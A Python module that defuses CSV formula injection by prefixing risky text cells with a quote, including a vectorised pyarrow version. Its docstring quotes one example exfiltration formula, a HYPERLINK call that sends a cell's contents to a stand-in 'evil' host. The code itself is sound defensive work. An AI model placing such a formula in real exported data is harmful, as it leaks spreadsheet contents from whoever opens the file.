"""Spreadsheet-safe CSV: a cell from a person, a model or the data never runs as a formula when opened.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and one that
starts with a tab or carriage return followed by one), so `=HYPERLINK("https://evil/?"&A1,"x")` in a
question or a result row would run on the reader's machine. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection): prefix such cells with a single quote, which
spreadsheets show as text. Numbers stay numbers; only text cells change.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_REGEX = "^[=+\\-@\\t\\r]"  # the same set, for Arrow's regex kernel


def neutralise_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: text starting like a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_table(table: Any) -> Any:
    """A pyarrow Table with every text column passed through the rule of ``neutralise_cell``, vectorised
    (results can be millions of rows; a Python loop per cell would not do)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        kind = column.type
        if pa.types.is_dictionary(kind):
            column, kind = column.cast(kind.value_type), kind.value_type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.match_substring_regex(column, _FORMULA_REGEX)
            quote, empty = pa.scalar("'", kind), pa.scalar("", kind)
            column = pc.if_else(risky, pc.binary_join_element_wise(quote, column, empty), column)
        columns.append(column)
    return pa.table(columns, names=table.column_names)
